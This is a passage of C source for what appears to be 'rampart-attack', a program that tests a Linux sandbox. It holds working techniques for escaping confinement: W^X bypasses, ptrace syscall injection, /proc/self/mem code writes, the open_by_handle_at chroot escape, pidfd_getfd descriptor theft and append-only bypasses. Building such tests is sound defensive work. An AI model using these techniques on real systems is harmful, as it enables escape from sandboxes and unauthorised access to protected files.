	if (fd < 0)
		return refused(attack, "open(O_RDONLY)");
	x = mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_SHARED, fd, 0);
	if (x == MAP_FAILED)
		return refused(attack, "mmap(PROT_EXEC)");
	close(fd);
	if (adv_run(attack, x, 42))
		return 1;
	memcpy(w, adv_code43, sizeof(adv_code43));
	if (adv_run(attack, x, 43))
		return 1;
	printf("%s: done (code changed under an executable mapping)\n", attack);
	return 0;
}

/*
 * Mapped read+exec while nobody writes it, then opened for writing and rewritten:
 * by pwrite ("write"), through a new shared writable mapping ("map"), through a
 * read-only shared mapping made writable with mprotect ("mprotect"), or cut to
 * nothing and regrown with zeros by truncate(2) ("truncate").
 */
static int adv_wx_write_after_map(const char *attack, const char *path, const char *how)
{
	unsigned char *x, *w;
	int fd = adv_stage_file(path);

	if (fd < 0)
		return refused(attack, "stage");
	close(fd);
	fd = open(path, O_RDONLY);
	if (fd < 0)
		return refused(attack, "open(O_RDONLY)");
	x = mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0);
	if (x == MAP_FAILED)
		return refused(attack, "mmap(PROT_EXEC)");
	close(fd);
	if (adv_run(attack, x, 42))
		return 1;
	if (!strcmp(how, "truncate")) {
		if (truncate(path, 0) || truncate(path, 4096))
			return refused(attack, "truncate after the mapping");
		printf("%s: done (code under an executable mapping truncated to zeros)\n", attack);
		return 0;
	}
	fd = open(path, !strcmp(how, "write") ? O_WRONLY : O_RDWR);
	if (fd < 0)
		return refused(attack, "open for writing after the mapping");
	if (!strcmp(how, "write")) {
		if (pwrite(fd, adv_code43, sizeof(adv_code43), 0) != sizeof(adv_code43))
			return refused(attack, "pwrite");
	} else if (!strcmp(how, "map")) {
		w = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
		if (w == MAP_FAILED)
			return refused(attack, "mmap(PROT_WRITE, MAP_SHARED) after the mapping");
		memcpy(w, adv_code43, sizeof(adv_code43));
	} else {
		w = mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0);
		if (w == MAP_FAILED)
			return refused(attack, "mmap(PROT_READ, MAP_SHARED)");
		if (mprotect(w, 4096, PROT_READ | PROT_WRITE))
			return refused(attack, "mprotect(PROT_WRITE) of the shared mapping");
		memcpy(w, adv_code43, sizeof(adv_code43));
	}
	close(fd);
	if (adv_run(attack, x, 43))
		return 1;
	printf("%s: done (code changed under an executable mapping)\n", attack);
	return 0;
}

/* personality(READ_IMPLIES_EXEC) after exec, then what it changes: brk, mmap, mprotect. */
static int adv_wx_rie(const char *attack, const char *how)
{
	unsigned char *p;

	if (personality(PER_LINUX | READ_IMPLIES_EXEC) < 0)
		return refused(attack, "personality(READ_IMPLIES_EXEC)");
	if (!strcmp(how, "brk")) {
		uintptr_t cur = (uintptr_t)sbrk(0), start = (cur + 8191) & ~(uintptr_t)4095;

		if (sbrk(start + 4096 - cur) == (void *)-1)
			return refused(attack, "sbrk");
		p = (unsigned char *)start;
	} else if (!strcmp(how, "mmap")) {
		p = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
		if (p == MAP_FAILED)
			return refused(attack, "mmap(PROT_READ|PROT_WRITE)");
	} else {
		p = mmap(NULL, 4096, PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
		if (p == MAP_FAILED)
			return refused(attack, "mmap(PROT_WRITE)");
		memcpy(p, wx_code, sizeof(wx_code));
		if (mprotect(p, 4096, PROT_READ))
			return refused(attack, "mprotect(PROT_READ)");
		if (adv_run(attack, p, 42))
			return 1;
		printf("%s: done\n", attack);
		return 0;
	}
	memcpy(p, wx_code, sizeof(wx_code));
	if (adv_run(attack, p, 42))
		return 1;
	printf("%s: done\n", attack);
	return 0;
}

static int __attribute__((noinline)) adv_victim(void)
{
	return 1;
}

static int (*volatile adv_victim_fn)(void) = adv_victim;

/* ptrace(PTRACE_POKETEXT) into a traced child's text, which then runs the new code. */
static int adv_wx_ptrace_poke(const char *attack)
{
	uintptr_t at = (uintptr_t)adv_victim;
	unsigned long word;
	int status;
	pid_t pid = fork();

	if (pid == 0) {
		ptrace(PTRACE_TRACEME, 0, 0, 0);
		raise(SIGSTOP);
		_exit(adv_victim_fn());
	}
	if (pid < 0 || waitpid(pid, &status, 0) != pid || !WIFSTOPPED(status))
		return refused(attack, "PTRACE_TRACEME");
	errno = 0;
	word = ptrace(PTRACE_PEEKTEXT, pid, at, 0);
	if (errno)
		return refused(attack, "PTRACE_PEEKTEXT");
	memcpy(&word, wx_code, sizeof(wx_code));
	if (ptrace(PTRACE_POKETEXT, pid, at, word))
		return refused(attack, "PTRACE_POKETEXT");
	ptrace(PTRACE_DETACH, pid, 0, 0);
	if (waitpid(pid, &status, 0) != pid || !WIFEXITED(status))
		return refused(attack, "child");
	if (WEXITSTATUS(status) != 42) {
		printf("%s: the child ran its own code (%d)\n", attack, WEXITSTATUS(status));
		return 1;
	}
	printf("%s: done (patched text ran)\n", attack);
	return 0;
}

/* Writing code over this program's text through /proc/self/mem. */
static int adv_wx_procmem(const char *attack)
{
	int fd = open("/proc/self/mem", O_RDWR);

	if (fd < 0)
		return refused(attack, "open /proc/self/mem");
	if (pwrite(fd, wx_code, sizeof(wx_code), (off_t)(uintptr_t)adv_victim) != sizeof(wx_code))
		return refused(attack, "pwrite text");
	if (adv_victim_fn() != 42)
		return refused(attack, "run");
	printf("%s: done\n", attack);
	return 0;
}

/* pkey_mprotect(PROT_EXEC) of written anonymous memory: mprotect by another name. */
static int adv_wx_pkey(const char *attack)
{
	unsigned char *p = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

	if (p == MAP_FAILED)
		return refused(attack, "mmap");
	memcpy(p, wx_code, sizeof(wx_code));
	if (syscall(SYS_pkey_mprotect, p, 4096, PROT_READ | PROT_EXEC, -1))
		return refused(attack, "pkey_mprotect(PROT_EXEC)");
	if (adv_run(attack, p, 42))
		return 1;
	printf("%s: done\n", attack);
	return 0;
}

/* SysV shared memory attached read-only (no SHM_EXEC), another attach writable, then mprotect(PROT_EXEC). */
static int adv_wx_shm_mprotect(const char *attack)
{
	int id = shmget(IPC_PRIVATE, 4096, IPC_CREAT | 0600);
	unsigned char *w, *x;

	if (id < 0)
		return refused(attack, "shmget");
	w = shmat(id, NULL, 0);
	x = shmat(id, NULL, SHM_RDONLY);
	shmctl(id, IPC_RMID, NULL);
	if (w == (void *)-1 || x == (void *)-1)
		return refused(attack, "shmat");
	memcpy(w, wx_code, sizeof(wx_code));
	if (mprotect(x, 4096, PROT_READ | PROT_EXEC))
		return refused(attack, "mprotect(read-only attach, PROT_EXEC)");
	if (adv_run(attack, x, 42))
		return 1;
	printf("%s: done\n", attack);
	return 0;
}

/*
 * This program copied into a memfd, the writable descriptor closed, and run
 * with execveat(AT_EMPTY_PATH) with @argv: an executable that is no file.
 */
static int adv_memfd_run(char **argv)
{
	char buf[65536], link[64];
	int in = open("/proc/self/exe", O_RDONLY);
	int mfd = (int)syscall(SYS_memfd_create, "adv", 0);
	int ro;
	ssize_t n;

	if (in < 0 || mfd < 0)
		return refused("memfd-run", "memfd_create");
	while ((n = read(in, buf, sizeof(buf))) > 0)
		if (write(mfd, buf, n) != n)
			return refused("memfd-run", "copy");
	close(in);
	snprintf(link, sizeof(link), "/proc/self/fd/%d", mfd);
	ro = open(link, O_RDONLY);
	if (ro < 0)
		return refused("memfd-run", "reopen read-only");
	close(mfd);
	syscall(SYS_execveat, ro, "", argv, environ, AT_EMPTY_PATH);
	return refused("memfd-run", "execveat(AT_EMPTY_PATH)");
}

/* The kernel's file_handle, with room for any filesystem's handle. */
struct adv_handle {
	unsigned int bytes;
	int type;
	unsigned char f[128];
};

/* name_to_handle_at(PATH): prints "TYPE:HEX". */
static int adv_fhandle_get(const char *path)
{
	struct adv_handle h = { .bytes = sizeof(h.f) };
	int mount_id;

	if (syscall(SYS_name_to_handle_at, AT_FDCWD, path, &h, &mount_id, 0))
		return refused("fhandle-get", "name_to_handle_at");
	printf("%d:", h.type);
	for (unsigned int i = 0; i < h.bytes; i++)
		printf("%02x", h.f[i]);
	printf("\n");
	return 0;
}

/* open_by_handle_at(MOUNT_FD, HANDLE): a directory outside the chroot by its handle (the Shocker escape). */
static int adv_fhandle_open(const char *mnt, const char *text)
{
	struct adv_handle h = { 0 };
	const char *hex = strchr(text, ':');
	int mfd = open(mnt, O_RDONLY | O_DIRECTORY), fd;

	if (!hex || mfd < 0)
		return refused("fhandle-open", "arguments");
	h.type = atoi(text);
	for (hex++; hex[0] && hex[1] && h.bytes < sizeof(h.f); hex += 2) {
		char byte[3] = { hex[0], hex[1], 0 };

		h.f[h.bytes++] = (unsigned char)strtoul(byte, NULL, 16);
	}
	fd = (int)syscall(SYS_open_by_handle_at, mfd, &h, O_RDONLY | O_DIRECTORY);
	if (fd < 0)
		return refused("fhandle-open", "open_by_handle_at");
	return escaped("fhandle-open", fd);
}

/* mount_setattr(2): clear a mount's read-only flag from inside (a remount by another name). */
struct adv_mount_attr {
	uint64_t attr_set, attr_clr, propagation, userns_fd;
};

static int adv_mount_setattr(const char *path)
{
	struct adv_mount_attr attr = { .attr_clr = 0x00000001 /* MOUNT_ATTR_RDONLY */ };
	char file[256];
	int fd;

	if (syscall(442 /* SYS_mount_setattr */, AT_FDCWD, path, 0, &attr, sizeof(attr)))
		return refused("mount-setattr", "mount_setattr(clear MOUNT_ATTR_RDONLY)");
	snprintf(file, sizeof(file), "%s/adv-written", path);
	fd = open(file, O_WRONLY | O_CREAT, 0600);
	if (fd < 0)
		return refused("mount-setattr", "create");
	close(fd);
	printf("mount-setattr: done\n");
	return 0;
}

/* The kernel's sched_attr (version 0). */
struct adv_sched_attr {
	uint32_t size, policy;
	uint64_t flags;
	int32_t nice;
	uint32_t priority;
	uint64_t runtime, deadline, period;
};

/* Raising priority without setpriority(): sched_setattr(nice), SCHED_FIFO, ioprio RT; of PID (0: self). */
static int adv_sched(const char *how, pid_t pid)
{
	char attack[64];

	snprintf(attack, sizeof(attack), "sched %s", how);
	if (!strcmp(how, "nice")) {
		struct adv_sched_attr a = { .size = sizeof(a), .policy = 0 /* SCHED_OTHER */, .nice = -10 };

		if (syscall(SYS_sched_setattr, pid, &a, 0))
			return refused(attack, "sched_setattr(nice -10)");
		errno = 0;
		printf("%s: done (nice now %d)\n", attack, getpriority(PRIO_PROCESS, pid));
		return 0;
	}
	if (!strcmp(how, "fifo")) {
		struct sched_param sp = { .sched_priority = 10 };

		if (sched_setscheduler(pid, SCHED_FIFO, &sp))
			return refused(attack, "sched_setscheduler(SCHED_FIFO)");
		printf("%s: done\n", attack);
		return 0;
	}
	if (!strcmp(how, "ioprio")) {
		/* IOPRIO_WHO_PROCESS, class RT (1) level 0. */
		if (syscall(SYS_ioprio_set, 1, pid, 1 << 13))
			return refused(attack, "ioprio_set(IOPRIO_CLASS_RT)");
		printf("%s: done\n", attack);
		return 0;
	}
	return 2;
}

/* A descriptor held from before the chroot, used with openat() instead of fchdir(). */
static int adv_dirfd_openat(const char *jail)
{
	int fd = open("/", O_RDONLY | O_DIRECTORY);

	if (fd < 0)
		return refused("dirfd-openat", "open /");
	if (chroot(jail) || chdir("/"))
		return refused("dirfd-openat", "chroot");
	if (fchdir(fd) == 0)
		printf("dirfd-openat: fchdir allowed\n");
	return escaped("dirfd-openat", fd);
}

/* pidfd_getfd(): take descriptor FD of process PID (outside), then use it. */
static int adv_pidfd_getfd(pid_t pid, int fd)
{
	int pfd = (int)syscall(SYS_pidfd_open, pid, 0), got;

	if (pfd < 0)
		return refused("pidfd-getfd", "pidfd_open");
	got = (int)syscall(SYS_pidfd_getfd, pfd, fd, 0);
	if (got < 0)
		return refused("pidfd-getfd", "pidfd_getfd");
	return escaped("pidfd-getfd", got);
}

/* /proc/PID/root, /proc/PID/cwd or /proc/PID/fd/N of a process outside, from a proc the admin gave the jail. */
static int adv_proc_link(pid_t pid, const char *which)
{
	char path[64];
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/%s", pid, which);
	fd = open(path, O_PATH | O_DIRECTORY);
	if (fd < 0)
		return refused("proc-link", path);
	return escaped("proc-link", fd);
}

/*
 * A traced child that has just exec'd @argv, and system calls run in it: the
 * tracer places "syscall; int3" at the child's instruction pointer, sets the
 * registers, lets it run to the trap and puts everything back. Whatever the
 * child's executable is allowed, the tracer's choice of call gets.
 */
static pid_t adv_spawn_traced(char **argv)
{
	int status;
	pid_t pid = fork();

	if (pid == 0) {
		ptrace(PTRACE_TRACEME, 0, 0, 0);
		execv(argv[0], argv);
		_exit(127);
	}
	if (pid < 0 || waitpid(pid, &status, 0) != pid || !WIFSTOPPED(status))
		return -1;
	return pid;
}

static long adv_inject(pid_t pid, long nr, long a1, long a2, long a3)
{
	struct user_regs_struct saved, regs;
	unsigned long orig, word;
	int status;

	if (ptrace(PTRACE_GETREGS, pid, 0, &saved))
		return -errno;
	errno = 0;
	orig = ptrace(PTRACE_PEEKTEXT, pid, saved.rip, 0);
	if (errno)
		return -errno;
	word = (orig & ~0xffffffUL) | 0xcc050fUL; /* 0f 05: syscall, cc: int3 */
	if (ptrace(PTRACE_POKETEXT, pid, saved.rip, word))
		return -errno;
	regs = saved;
	regs.rax = nr;
	regs.orig_rax = -1;
	regs.rdi = a1;
	regs.rsi = a2;
	regs.rdx = a3;
	if (ptrace(PTRACE_SETREGS, pid, 0, &regs) || ptrace(PTRACE_CONT, pid, 0, 0) ||
	    waitpid(pid, &status, 0) != pid || !WIFSTOPPED(status) || ptrace(PTRACE_GETREGS, pid, 0, &regs))
		return -ECHILD;
	ptrace(PTRACE_POKETEXT, pid, saved.rip, orig);
	ptrace(PTRACE_SETREGS, pid, 0, &saved);
	return (long)regs.rax;
}

static int adv_inject_refused(const char *attack, const char *step, long r)
{
	errno = (int)-r;
	return refused(attack, step);
}

/* Qualys 2025 (LD_PRELOAD into an allowlisted program), by ptrace: an allowlisted executable made to unshare. */
static int adv_userns_inject(char **argv)
{
	pid_t pid = adv_spawn_traced(argv);
	long r;

	if (pid < 0)
		return refused("userns-inject", "PTRACE_TRACEME + exec");
	r = adv_inject(pid, SYS_unshare, CLONE_NEWUSER, 0, 0);
	kill(pid, SIGKILL);
	waitpid(pid, NULL, 0);
	if (r < 0)
		return adv_inject_refused("userns-inject", "unshare(CLONE_NEWUSER) in the allowlisted program", r);
	printf("userns-inject: done (a user namespace made by the allowlisted program)\n");
	return 0;
}

/* Copies @len bytes into the tracee at @at. */
static int adv_poke(pid_t pid, unsigned long at, const void *data, size_t len)
{
	for (size_t i = 0; i < len; i += sizeof(long)) {
		unsigned long word = 0;

		memcpy(&word, (const char *)data + i, len - i < sizeof(long) ? len - i : sizeof(long));
		if (ptrace(PTRACE_POKEDATA, pid, at + i, word))
			return -1;
	}
	return 0;
}

/* Starts @argv untraced and attaches to it once it runs: -1 when refused. */
static pid_t adv_spawn_attached(char **argv)
{
	int status;
	pid_t pid = fork();

	if (pid == 0) {
		execv(argv[0], argv);
		_exit(127);
	}
	if (pid < 0)
		return -1;
	usleep(300000);
	if (ptrace(PTRACE_ATTACH, pid, 0, 0)) {
		int saved = errno;

		kill(pid, SIGKILL);
		waitpid(pid, NULL, 0);
		errno = saved;
		return -1;
	}
	if (waitpid(pid, &status, 0) != pid || !WIFSTOPPED(status))
		return -1;
	return pid;
}

/*
 * RBAC: a traced child running another subject's program reads @path for the tracer;
 * traced from its start (PTRACE_TRACEME, then exec), or attached to once it runs.
 */
static int adv_trace_read(char **argv, const char *path, int attach)
{
	struct user_regs_struct regs;
	char content[72] = "";
	unsigned long str, buf;
	long fd, n;
	pid_t pid = attach ? adv_spawn_attached(argv) : adv_spawn_traced(argv);

	if (pid < 0 || ptrace(PTRACE_GETREGS, pid, 0, &regs))
		return refused("trace-read", attach ? "PTRACE_ATTACH" : "PTRACE_TRACEME + exec");
	str = (regs.rsp - 4096) & ~15UL;
	buf = str + 1024;
	if (adv_poke(pid, str, path, strlen(path) + 1))
		return refused("trace-read", "PTRACE_POKEDATA");
	fd = adv_inject(pid, SYS_openat, AT_FDCWD, (long)str, O_RDONLY);
	if (fd < 0) {
		kill(pid, SIGKILL);
		return adv_inject_refused("trace-read", "openat in the tracee", fd);
	}
	n = adv_inject(pid, SYS_read, fd, (long)buf, 64);
	for (long i = 0; i < n && i < 64; i += sizeof(long)) {
		unsigned long word = ptrace(PTRACE_PEEKDATA, pid, buf + i, 0);

		memcpy(content + i, &word, sizeof(word));
	}
	kill(pid, SIGKILL);
	waitpid(pid, NULL, 0);
	if (n < 0)
		return adv_inject_refused("trace-read", "read in the tracee", n);
	content[n < 64 ? n : 64] = 0;
	content[strcspn(content, "\n")] = 0;
	printf("trace-read: done (%s)\n", content);
	return 0;
}

/* RBAC append-only: pwritev2(RWF_NOAPPEND) at offset 0, and a shared writable mapping of an O_APPEND descriptor. */
static int adv_append(const char *how, const char *path)
{
	char attack[64];
	int fd;

	snprintf(attack, sizeof(attack), "append %s", how);
	if (!strcmp(how, "noappend")) {
		struct iovec iov = { .iov_base = "X", .iov_len = 1 };

		fd = open(path, O_WRONLY | O_APPEND);
		if (fd < 0)
			return refused(attack, "open(O_APPEND)");
		if (pwritev2(fd, &iov, 1, 0, 0x20 /* RWF_NOAPPEND */) != 1)
			return refused(attack, "pwritev2(RWF_NOAPPEND)");
	} else {
		char *p;

		fd = open(path, O_RDWR | O_APPEND);
		if (fd < 0)
			return refused(attack, "open(O_RDWR|O_APPEND)");
		p = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
		if (p == MAP_FAILED)
			return refused(attack, "mmap(PROT_WRITE, MAP_SHARED)");
		p[0] = 'X';
		if (msync(p, 4096, MS_SYNC))
			return refused(attack, "msync");
	}
	printf("%s: done\n", attack);
	return 0;
}

/* RBAC hidden objects: what else tells that @path exists (one line per call). */
static int adv_hidden_probe(const char *path)
{
	struct adv_handle h = { .bytes = sizeof(h.f) };
	char buf[64], sub[300];
	int mount_id;

	snprintf(sub, sizeof(sub), "%s/adv-new", path);
#define ADV_SAY(name, call) printf("hidden %s: %s\n", name, (call) >= 0 ? "ok" : (strerrorname_np(errno) ?: "?"))
	ADV_SAY("chdir", chdir(path));
	ADV_SAY("name_to_handle_at", syscall(SYS_name_to_handle_at, AT_FDCWD, path, &h, &mount_id, 0));
	ADV_SAY("getxattr", getxattr(path, "user.adv", buf, sizeof(buf)));
	ADV_SAY("mkdir", mkdir(path, 0700));
	ADV_SAY("rmdir", rmdir(path));
	/* Times "now", not UTIME_OMIT twice: that returns 0 before the name is even looked up. */
	ADV_SAY("utimensat", utimensat(AT_FDCWD, path, NULL, 0));
	ADV_SAY("mkdir-inside", mkdir(sub, 0700));
	ADV_SAY("open-excl", open(path, O_CREAT | O_EXCL | O_WRONLY, 0600));
	/* A sibling renamed over it without replacing: EEXIST says it is there. */
	snprintf(sub, sizeof(sub), "%s-adv-src", path);
	if (close(open(sub, O_CREAT | O_WRONLY, 0600)) == 0) {
		ADV_SAY("rename-noreplace", syscall(SYS_renameat2, AT_FDCWD, sub, AT_FDCWD, path,
						    1 /* RENAME_NOREPLACE */));
		unlink(sub);
	}
#undef ADV_SAY
	return 0;
}

/* O_PATH of a file the subject may not read, then reopened for reading through /proc/self/fd. */
static int adv_opath_reopen(const char *path)
{
	char link[64];
	int fd = open(path, O_PATH), rd;

	if (fd < 0)
		return refused("opath-reopen", "open(O_PATH)");
	snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);
	rd = open(link, O_RDONLY);
	if (rd < 0)
		return refused("opath-reopen", "open(/proc/self/fd/N, O_RDONLY)");
	printf("opath-reopen: done\n");
	return 0;
}

static int adv_wx(const char *what, const char *arg)
{
	char attack[64];

	snprintf(attack, sizeof(attack), "wx %s", what);
	if (!strcmp(what, "shared-alias"))
		return adv_wx_shared_alias(attack);
	if (!strcmp(what, "shared-fork"))
		return adv_wx_shared_fork(attack);
	if (!strcmp(what, "file-alias"))
		return adv_wx_file_alias(attack, arg);
	if (!strcmp(what, "write-after-map"))
		return adv_wx_write_after_map(attack, arg, "write");
	if (!strcmp(what, "map-after-map"))
		return adv_wx_write_after_map(attack, arg, "map");
	if (!strcmp(what, "mprotect-after-map"))
		return adv_wx_write_after_map(attack, arg, "mprotect");
	if (!strcmp(what, "truncate-after-map"))
		return adv_wx_write_after_map(attack, arg, "truncate");
	if (!strcmp(what, "rie-brk") || !strcmp(what, "rie-mmap") || !strcmp(what, "rie-mprotect"))
		return adv_wx_rie(attack, what + 4);
	if (!strcmp(what, "ptrace-poke"))
		return adv_wx_ptrace_poke(attack);
	if (!strcmp(what, "procmem"))
		return adv_wx_procmem(attack);
	if (!strcmp(what, "pkey-mprotect"))
		return adv_wx_pkey(attack);
	if (!strcmp(what, "shm-mprotect"))
		return adv_wx_shm_mprotect(attack);
	fprintf(stderr, "unknown adv-wx attack %s\n", what);
	return 2;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc == 2 && !strcmp(argv[1], "pidns"))
		return cmd_pidns();
	if (argc == 2 && !strcmp(argv[1], "clone-ns"))
		return cmd_clone_ns();
	if (argc == 2 && !strcmp(argv[1], "mntns"))
		return cmd_mntns();
	if (argc == 2 && !strcmp(argv[1], "setns"))
		return cmd_setns();
	if (argc == 3 && !strcmp(argv[1], "setns-held"))
		return cmd_setns_held(argv[2]);
	if (argc == 2 && !strcmp(argv[1], "newmount"))
		return cmd_newmount();
	if (argc == 2 && !strcmp(argv[1], "fsmount-proc"))
		return cmd_fsmount_proc();
	if (argc == 2 && !strcmp(argv[1], "open-tree"))
		return cmd_open_tree();
	if (argc == 3 && !strcmp(argv[1], "create-setuid"))
		return cmd_create_setuid(argv[2]);
	if (argc == 3 && !strcmp(argv[1], "mknod-setuid"))
		return cmd_mknod_setuid(argv[2]);
	if (argc == 3 && !strcmp(argv[1], "setcap"))
		return cmd_setcap(argv[2]);
	if (argc == 5 && !strcmp(argv[1], "deep-make"))
		return cmd_deep_make(argv[2], atoi(argv[3]), argv[4]);
	if (argc == 5 && !strcmp(argv[1], "deep-read"))
		return cmd_deep_read(argv[2], atoi(argv[3]), argv[4]);
	if (argc == 4 && !strcmp(argv[1], "move-rewrite"))
		return cmd_move_rewrite(argv[2], argv[3]);
	if (argc >= 3 && !strcmp(argv[1], "shared-fs-exec"))
		return cmd_shared_fs_exec(argv + 2);
	if (argc == 3 && !strcmp(argv[1], "sigio"))
		return cmd_sigio(atoi(argv[2]));
	if (argc == 3 && !strcmp(argv[1], "fd-chdir"))
		return cmd_fd_chdir(argv[2]);
	if (argc == 2 && !strcmp(argv[1], "nice"))
		return cmd_nice();
	if (argc == 3 && !strcmp(argv[1], "unix-listen"))
		return cmd_unix_listen(argv[2]);
	if (argc == 3 && !strcmp(argv[1], "unix-connect"))
		return cmd_unix_connect(argv[2]);
	if (argc == 2 && !strcmp(argv[1], "shm-create"))
		return cmd_shm_create();
	if (argc == 3 && !strcmp(argv[1], "shmat"))
		return cmd_shmat(atoi(argv[2]));
	if (argc == 3 && !strcmp(argv[1], "wx"))
		return wx_attack(argv[2]);
	if (argc == 5 && !strcmp(argv[1], "setxattr"))
		return cmd_setxattr(argv[2], argv[3], argv[4]);
	if (argc == 2 && !strcmp(argv[1], "stack-perms"))
		return cmd_stack_perms();
	if (argc == 3 && !strcmp(argv[1], "set-execstack"))
		return cmd_set_execstack(argv[2]);
	if (argc == 3 && !strcmp(argv[1], "crash-server"))
		return cmd_crash_server(atoi(argv[2]));
	if (argc == 4 && !strcmp(argv[1], "tcp-send"))
		return cmd_tcp_send(argv[2], atoi(argv[3]));
	if (argc == 3 && !strcmp(argv[1], "list"))
		return cmd_list(argv[2]);
	if (argc == 3 && !strcmp(argv[1], "access"))
		return cmd_access(argv[2]);
	if (argc == 3 && !strcmp(argv[1], "opath"))
		return cmd_opath(argv[2]);
	if (argc == 4 && !strcmp(argv[1], "read-after"))
		return cmd_read_after(argv[2], argv[3]);
	if ((argc == 4 || argc == 5) && !strcmp(argv[1], "unappend"))
		return cmd_unappend(argv[2], argv[3], argc == 5 ? argv[4] : NULL);
	if (argc == 3 && !strcmp(argv[1], "read"))
		return cmd_read(argv[2]);
	if (argc == 3 && (!strcmp(argv[1], "mmap-exec") || !strcmp(argv[1], "mprotect-exec")))
		return cmd_map_exec(argv[1], argv[2]);
	if (argc == 3 && !strcmp(argv[1], "read-fd"))
		return cmd_read_fd(atoi(argv[2]));
	if (argc == 4 && !strcmp(argv[1], "link"))
		return cmd_link(argv[2], argv[3]);
	if (argc == 2 && !strcmp(argv[1], "sethostname"))
		return cmd_sethostname();
	if (argc == 2 && !strcmp(argv[1], "pseudo-files"))
		return cmd_pseudo_files();
	if (argc == 2 && !strcmp(argv[1], "userns-hold"))
		return cmd_userns_hold();
	if (argc == 3 && !strcmp(argv[1], "userns-join"))
		return cmd_userns_join(atoi(argv[2]));
	if (argc == 4 && !strcmp(argv[1], "nocap-write"))
		return cmd_nocap_write(argv[2], argv[3], 0);
	if (argc == 4 && !strcmp(argv[1], "nocap-write-held"))
		return cmd_nocap_write(argv[2], argv[3], 1);
	if ((argc == 3 || argc == 4) && !strcmp(argv[1], "adv-wx"))
		return adv_wx(argv[2], argc == 4 ? argv[3] : "/tmp/rampart-adv-stage");
	if (argc >= 3 && !strcmp(argv[1], "memfd-run"))
		return adv_memfd_run(argv + 1);
	if (argc == 3 && !strcmp(argv[1], "fhandle-get"))
		return adv_fhandle_get(argv[2]);
	if (argc == 4 && !strcmp(argv[1], "fhandle-open"))
		return adv_fhandle_open(argv[2], argv[3]);
	if (argc == 3 && !strcmp(argv[1], "mount-setattr"))
		return adv_mount_setattr(argv[2]);
	if ((argc == 3 || argc == 4) && !strcmp(argv[1], "sched"))
		return adv_sched(argv[2], argc == 4 ? atoi(argv[3]) : 0);
	if (argc == 3 && !strcmp(argv[1], "dirfd-openat"))
		return adv_dirfd_openat(argv[2]);
	if (argc == 4 && !strcmp(argv[1], "pidfd-getfd"))
		return adv_pidfd_getfd(atoi(argv[2]), atoi(argv[3]));
	if (argc == 4 && !strcmp(argv[1], "proc-link"))
		return adv_proc_link(atoi(argv[2]), argv[3]);
	if (argc >= 3 && !strcmp(argv[1], "userns-inject"))
		return adv_userns_inject(argv + 2);
	if (argc >= 4 && !strcmp(argv[1], "trace-read"))
		return adv_trace_read(argv + 3, argv[2], 0);
	if (argc >= 4 && !strcmp(argv[1], "attach-read"))
		return adv_trace_read(argv + 3, argv[2], 1);
	if (argc == 4 && !strcmp(argv[1], "append"))
		return adv_append(argv[2], argv[3]);
	if (argc == 3 && !strcmp(argv[1], "hidden-probe"))
		return adv_hidden_probe(argv[2]);
	if (argc == 3 && !strcmp(argv[1], "opath-reopen"))
		return adv_opath_reopen(argv[2]);
	fprintf(stderr, "usage: rampart-attack pidns|clone-ns|mntns|setns|setns-held JAIL|newmount|"
			"fsmount-proc|open-tree|create-setuid PATH|mknod-setuid PATH|setcap PATH|"
			"sigio PID|fd-chdir JAIL|nice|nocap-write[-held] FILE TEXT|\n"
			"userns-hold|userns-join PID|\n"
			"unappend open-trunc|ftruncate|punch|setfl|append PATH|unappend rename-over|exchange PATH OTHER|\n"
			"pseudo-files|read PATH|read-fd FD|link SRC DST|mmap-exec|mprotect-exec PATH|sethostname|\n"
			"unix-listen|unix-connect NAME|shm-create|shmat ID|list DIR|access|opath PATH|read-after FIFO PATH|\n"
			"crash-server PORT|tcp-send ADDR PORT|\n"
			"wx mmap-wx|mprotect-anon|mprotect-heap|mprotect-stack|mprotect-data|mprotect-bss|text-write|\n"
			"   memfd-exec|file-rw-exec|shm-exec|jit|status|stack-perms|set-execstack FILE|\n"
			"setxattr PATH NAME VALUE\n");
	return 2;
}
